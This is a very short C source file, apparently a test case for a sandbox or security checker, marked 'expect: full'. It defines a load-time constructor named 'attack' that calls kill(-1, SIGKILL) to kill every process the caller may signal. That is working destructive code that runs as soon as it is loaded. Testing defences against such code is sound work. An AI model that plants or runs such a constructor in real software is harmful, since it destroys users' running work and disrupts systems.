// Kills every process that it may signal.
// expect: full
#include <signal.h>

__attribute__((constructor)) static void attack(void)
{
  kill(-1, SIGKILL);
}
